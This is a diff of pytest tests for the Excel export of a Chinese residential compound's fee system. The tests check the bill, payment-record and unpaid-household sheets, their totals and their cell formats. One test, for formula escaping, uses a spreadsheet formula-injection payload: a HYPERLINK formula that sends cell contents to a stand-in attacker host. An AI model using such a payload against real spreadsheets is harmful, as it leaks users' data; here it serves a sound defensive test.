@@ -13,7 +13,7 @@ from sqlalchemy import event, select
 
 from server.extensions import db
 from server.models import Bill, FeeItem, Notification, Payment, PaymentBill, SubscriptionQuota
-from server.services import collection, fees
+from server.services import collection, fees, fees_export
 from tests.factories import build_world, self_governance_fee
 
 
@@ -96,18 +96,40 @@ def test_a_liaison_cannot_take_cash_for_another_unit(client, world):
     assert response.status_code == 403
 
 
+def sheets(response) -> dict[str, list[list]]:
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.data))
+    assert book.sheetnames == ["账单", "缴费记录", "未缴名单"]
+    return {
+        name: [list(r) for r in book[name].iter_rows(values_only=True)] for name in book.sheetnames
+    }
+
+
+def export(client, world, who="committee"):
+    return client.get(
+        "/api/v1/fees/export.xlsx?compound=aa&period=2026-12", headers=world.headers(who)
+    )
+
+
 def test_the_export_lists_bills_and_how_they_were_paid(client, world):
     payment = record_cash(client, world, "1-1-101")
     client.post(f"/api/v1/offline-payments/{payment}/confirm", headers=world.headers("committee_2"))
-    response = client.get(
-        "/api/v1/fees/export.xlsx?compound=aa&period=2026-12", headers=world.headers("committee")
-    )
-    rows = [
-        list(r) for r in load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)
+    header, *rows, total, paid_total = sheets(export(client, world))["账单"]
+    assert header == [
+        "账单号",
+        "房屋",
+        "收费项目",
+        "账期",
+        "金额（元）",
+        "状态",
+        "缴费时间",
+        "缴费方式",
     ]
-    assert rows[0][:3] == ["账单号", "房屋", "收费项目"]
-    paid = [r for r in rows[1:] if r[5] == "已缴"]
+    paid = [r for r in rows if r[5] == "已缴"]
     assert [(r[1], r[4], r[7]) for r in paid] == [("1-1-101", 25.33, "现金")]
+    assert isinstance(paid[0][6], datetime)  # a real date-time, not text
+    assert total[:1] + total[4:5] == ["合计（6 笔）", 151.98]
+    assert paid_total[:1] + paid_total[4:5] == ["其中已缴（1 笔）", 25.33]
 
 
 def _bill(world, label: str, period: str) -> Bill:
@@ -142,13 +164,10 @@ def _online(world, labels_periods, status, out_trade_no, paid_at=None, transacti
 
 
 def _payment_rows(response) -> list[list]:
-    assert response.status_code == 200
-    book = load_workbook(io.BytesIO(response.data))
-    assert book.sheetnames == ["账单", "缴费记录"]
-    return [list(r) for r in book["缴费记录"].iter_rows(values_only=True)]
+    return sheets(response)["缴费记录"]
 
 
-def test_the_export_lists_every_payment_of_the_period_once(client, world):
+def test_the_export_lists_each_bill_of_the_period_in_every_payment_of_it(client, world):
     fees.generate_bills("2026-11", "aa")
     paid_at = datetime(2026, 12, 1, 2, 30, tzinfo=UTC)  # 10:30 in Shanghai
     two_months = [("1-1-102", "2026-11"), ("1-1-102", "2026-12")]
@@ -157,7 +176,6 @@ def test_the_export_lists_every_payment_of_the_period_once(client, world):
     _online(world, [("1-2-102", "2026-11")], "paid", "LL-T-3", paid_at, "42000003")  # November
     cash = record_cash(client, world, "1-1-101")  # its November and December bills
     client.post(f"/api/v1/offline-payments/{cash}/confirm", headers=world.headers("committee_2"))
-    cash_ids = ", ".join(str(_bill(world, "1-1-101", p).id) for p in ("2026-11", "2026-12"))
     body = {"bill_ids": [_bill(world, "1-2-101", "2026-12").id], "method": "transfer"}
     body.update(amount_fen=2533, paid_on="2026-11-29")
     transfer = client.post(
@@ -168,29 +186,76 @@ def test_the_export_lists_every_payment_of_the_period_once(client, world):
         json={"reason": "收据与金额不符"},
         headers=world.headers("committee"),
     )
-    response = client.get(
-        "/api/v1/fees/export.xlsx?compound=aa&period=2026-12", headers=world.headers("supervisor")
-    )
-    header, *rows = _payment_rows(response)
-    assert header[:6] == ["缴费方式", "房屋", "账单号", "账期", "金额（元）", "状态"]
+    header, *rows, total = _payment_rows(export(client, world, who="supervisor"))
+    assert header[:8] == [
+        "缴费方式", "房屋", "账单号", "收费项目", "账期", "金额（元）", "状态", "本次缴费合计（元）"
+    ]  # fmt: skip
     liaison_1_1, liaison_1_2 = (world.people[k].nickname for k in ("liaison_1_1", "liaison_1_2"))
     committee, committee_2 = (world.people[k].nickname for k in ("committee", "committee_2"))
-    ids = ", ".join(str(_bill(world, *bill).id) for bill in two_months)
-    decided = [r[11] for r in rows if r[0] != "微信支付"]  # when, in Shanghai, to the minute
-    assert [len(when) for when in decided] == [len("2026-12-01 10:30")] * 2
-    assert [r[:11] + r[12:] for r in rows] == [
-        ["微信支付", "1-1-102", ids, "2026-11, 2026-12", 50.66, "已支付", "LL-T-1",
-         "4200000000000001", "2026-12-01 10:30", None, None, None],
-        ["微信支付", "1-1-201", str(_bill(world, "1-1-201", "2026-12").id), "2026-12", 25.33,
-         "金额异常", "LL-T-2", None, None, None, None, None],
-        ["现金", "1-1-101", cash_ids, "2026-11, 2026-12", 50.66,
-         "已确认", None, None, "2026-11-30", liaison_1_1, committee_2, None],
-        ["转账", "1-2-101", str(_bill(world, "1-2-101", "2026-12").id), "2026-12", 25.33,
-         "已驳回", None, None, "2026-11-29", liaison_1_2, committee, "收据与金额不符"],
+    decided = [r[13] for r in rows if r[0] != "微信支付"]  # when, in Shanghai: a date-time
+    assert all(isinstance(when, datetime) for when in decided)
+    fee = "自治管理费"
+
+    def bill(label):
+        return _bill(world, label, "2026-12").id
+
+    assert [r[:13] + r[14:] for r in rows] == [
+        ["微信支付", "1-1-102", bill("1-1-102"), fee, "2026-12", 25.33, "已支付", 50.66, "LL-T-1",
+         "4200000000000001", datetime(2026, 12, 1, 10, 30), None, None, None],
+        ["微信支付", "1-1-201", bill("1-1-201"), fee, "2026-12", 25.33, "金额异常", 25.33, "LL-T-2",
+         None, None, None, None, None],
+        ["现金", "1-1-101", bill("1-1-101"), fee, "2026-12", 25.33, "已确认", 50.66, None, None,
+         datetime(2026, 11, 30), liaison_1_1, committee_2, None],
+        ["转账", "1-2-101", bill("1-2-101"), fee, "2026-12", 25.33, "已驳回", 25.33, None, None,
+         datetime(2026, 11, 29), liaison_1_2, committee, "收据与金额不符"],
     ]  # fmt: skip
+    assert total[0] == "已收款合计（已支付、已确认，4 行）"
+    assert total[5] == 50.66  # the paid order's and the confirmed cash's December bills
     assert online.out_trade_no == "LL-T-1"
     # A status added later, before the export knows its name, shows as stored.
-    assert collection._zh(collection.PAYMENT_STATUS_ZH, "refunded") == "refunded"
+    assert fees_export.zh(fees_export.PAYMENT_STATUS_ZH, "refunded") == "refunded"
+
+
+def test_what_a_volunteer_typed_never_runs_as_a_formula_and_money_is_a_number(client, world):
+    body = {"bill_ids": [_bill(world, "1-2-101", "2026-12").id], "method": "transfer"}
+    body.update(amount_fen=2533, paid_on="2026-11-29", note="=1+1")
+    transfer = client.post(
+        "/api/v1/offline-payments", json=body, headers=world.headers("liaison_1_2")
+    ).get_json()["id"]
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
+    client.post(
+        f"/api/v1/offline-payments/{transfer}/reject",
+        json={"reason": reason},
+        headers=world.headers("committee"),
+    )
+    book = load_workbook(io.BytesIO(export(client, world).data))
+    sheet = book["缴费记录"]
+    row = {h.value: cell for h, cell in zip(sheet[1], sheet[2], strict=True)}
+    assert row["驳回理由"].data_type == "s"  # text, not a formula
+    assert row["驳回理由"].value == "'" + reason
+    assert (row["金额（元）"].value, row["金额（元）"].number_format) == (25.33, "0.00")
+    assert row["账单号"].number_format == "0"
+    assert row["处理时间"].number_format == "yyyy-mm-dd hh:mm"
+    assert row["缴费时间"].number_format == "yyyy-mm-dd"  # the day the transfer was made
+    assert sheet.column_dimensions["O"].width == 30
+    formulas = [c for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_the_export_lists_who_still_owes(client, world):
+    cash = record_cash(client, world, "1-1-101")
+    client.post(f"/api/v1/offline-payments/{cash}/confirm", headers=world.headers("committee_2"))
+    record_cash(client, world, "1-1-102")  # recorded, not confirmed yet: still owed
+    header, *rows, total = sheets(export(client, world))["未缴名单"]
+    assert header == ["房屋", "未缴笔数", "未缴金额（元）", "其中缴费中（元）"]
+    assert rows == [
+        ["1-1-102", 1, 25.33, 25.33],
+        ["1-1-201", 1, 25.33, 0],
+        ["1-2-101", 1, 25.33, 0],
+        ["1-2-102", 1, 25.33, 0],
+        ["1-2-201", 1, 25.33, 0],
+    ]
+    assert total == ["合计（5 户）", 5, 126.65, 25.33]
 
 
 def _statements(fn) -> int:
@@ -227,7 +292,7 @@ def test_the_export_runs_a_constant_number_of_statements(client, world):
     for n, label in enumerate(("1-2-102", "1-2-201")):
         _online(world, [(label, "2026-12")], "pending", f"LL-T-{n + 2}")
     many = _statements(export)
-    assert len(_payment_rows(export())) == 1 + 6
+    assert len(_payment_rows(export())) == 1 + 6 + 1  # the header, a bill each, the total
     assert few == many
     assert many <= 10  # sign-in, the compound, 3 for the bills, 2 online, 2 offline
 
